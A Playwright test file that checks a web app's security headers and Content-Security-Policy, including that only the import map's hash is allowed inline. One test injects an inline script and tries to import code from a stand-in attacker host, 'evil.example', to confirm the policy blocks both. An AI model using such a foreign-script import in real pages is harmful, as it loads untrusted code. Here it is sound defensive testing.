import { createHash } from 'node:crypto';
import { expect, forgiveConsoleErrors, test } from './fixtures.ts';

/**
 * Issue 11, item 6, on the production build: the pages run under a Content-Security-Policy (the
 * fixture fails any test of the suite that meets a violation), whose one inline allowance is the
 * hash of the import map the build wrote into index.html.
 */
const NOTHING_RUNS = "default-src 'none'; frame-ancestors 'none'; sandbox";

function scriptSources(policy: string | undefined): string[] {
  const directive = (policy ?? '').split(';').find((d) => d.trim().startsWith('script-src '));
  return directive ? directive.trim().split(/\s+/).slice(1) : [];
}

test.describe('security headers (docs/security.md)', () => {
  test('index.html: the policy allows the served import map by its hash, and nothing else inline', async ({
    request,
  }) => {
    const reply = await request.get('/', { headers: { accept: 'text/html' } });
    expect(reply.status()).toBe(200);
    const headers = reply.headers();
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('same-origin');
    expect(headers['x-frame-options']).toBe('DENY');
    const html = await reply.text();
    const maps = [...html.matchAll(/<script type="importmap">([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
    expect(maps).toHaveLength(1);
    const hash = createHash('sha256').update(maps[0]!).digest('base64');
    expect(scriptSources(headers['content-security-policy'])).toEqual(["'self'", `'sha256-${hash}'`]);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    // No other inline script or style in the page.
    expect(html.replace(/<script type="importmap">[\s\S]*?<\/script>/, '')).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/<style/);

    const entry = /<script type="module" crossorigin src="([^"]+)"/.exec(html)![1]!;
    const asset = await request.get(entry);
    expect(asset.headers()['x-content-type-options']).toBe('nosniff');
    expect(scriptSources(asset.headers()['content-security-policy'])[0]).toBe("'self'");

    const api = await request.get('/api/public/ping');
    expect(api.headers()['x-content-type-options']).toBe('nosniff');
    expect(api.headers()['content-security-policy']).toBe(NOTHING_RUNS);
  });

  test('the running page refuses inline script and script from another origin', async ({
    page,
    signedIn,
    consoleErrors,
    cspViolations,
  }) => {
    expect(signedIn.token).toBeTruthy();
    await page.goto('/');
    await expect(page.getByTestId('home-page')).toBeVisible();
    const ran = await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true;';
      document.head.append(inline);
      const foreignUrl: string = 'https://evil.example/x.js';
      const foreign = await import(/* @vite-ignore */ foreignUrl).then(
        () => true,
        () => false,
      );
      return { inline: (window as { __inlineRan?: boolean }).__inlineRan === true, foreign };
    });
    expect(ran).toEqual({ inline: false, foreign: false });
    // The two refusals this test provoked are the only ones.
    await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(2);
    expect(cspViolations.every((v) => /script-src/.test(v))).toBe(true);
    cspViolations.splice(0);
    forgiveConsoleErrors(consoleErrors, /CSP violation|Content Security Policy|Failed to fetch dynamically imported/);
  });
});
